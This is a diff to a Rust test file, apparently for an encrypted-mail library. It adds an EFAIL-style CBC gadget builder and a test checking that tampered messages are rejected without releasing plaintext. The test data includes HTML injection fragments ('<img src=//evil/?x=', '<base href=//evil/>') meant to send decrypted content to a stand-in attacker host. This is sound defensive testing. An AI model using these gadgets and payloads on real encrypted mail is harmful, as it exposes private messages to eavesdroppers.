@@ -247,6 +247,44 @@ fn a_signature_inside_finds_what_cbc_lets_pass() {
     assert!(open(repeated.message()).released().is_none());
 }
 
+/// The EFAIL gadget: blocks of the attacker's choice before the ciphertext of somebody else, of which he knows the first block. Between
+/// each two of them stands a block that decrypts to noise.
+fn gadget(envelope: Envelope, known: &str, blocks: &[&str]) -> Envelope {
+    let (iv, first) = (envelope.parameters.iv.clone(), envelope.ciphertext[..16].to_vec());
+    let so_that = |block: &str| -> Vec<u8> {
+        assert_eq!(block.len(), 16, "{block:?}");
+        iv.iter().zip(known.as_bytes()).zip(block.as_bytes()).map(|((iv, known), wanted)| iv ^ known ^ wanted).collect()
+    };
+    let mut ciphertext = first.clone();
+    for block in &blocks[1..] {
+        ciphertext.extend(so_that(block));
+        ciphertext.extend(&first);
+    }
+    ciphertext.extend(&iv);
+    ciphertext.extend(&envelope.ciphertext);
+    envelope.with(|e| (e.parameters.iv, e.ciphertext) = (so_that(blocks[0]), ciphertext))
+}
+
+#[test]
+fn gadgets_give_nothing() {
+    let entity = secret_entity();
+    let known = &entity[..16];
+    let padding = Envelope::cbc(&entity).with(|e| e.ciphertext.truncate(e.ciphertext.len() - 16));
+    let as_changed = open(padding.message());
+    let failure = |opened: &Opened| opened.verdict().findings.iter().map(ToString::to_string).collect::<Vec<_>>();
+    assert_eq!(as_changed.verdict().outcome(), Outcome::Bad);
+    for blocks in [
+        &["Content-Type: te", "xt/html\n\n<img a=", "\" src='//evil/?x", "='><a href='//e/"][..],
+        &["MIME-Version: 1\n", "\nContent-Type: t", "ext/html\n\n<base ", "href='//evil/'><"][..],
+        &["X-A: b\nX-Ignore:", "\n\n<!--0123456789", "--><img src='//e"][..],
+    ] {
+        let changed = gadget(Envelope::cbc(&entity), known, blocks);
+        let opened = open(changed.message());
+        assert!(opened.released().is_none(), "{blocks:?}: {}", released(&opened));
+        assert_eq!((opened.verdict().outcome(), failure(&opened)), (Outcome::Bad, failure(&as_changed)), "{blocks:?}");
+    }
+}
+
 #[test]
 fn a_signature_around_foreign_ciphertext_does_not_make_its_content_verified() {
     let taken = Envelope::gcm(&clear_signed(ENTITY, &stage().alice));
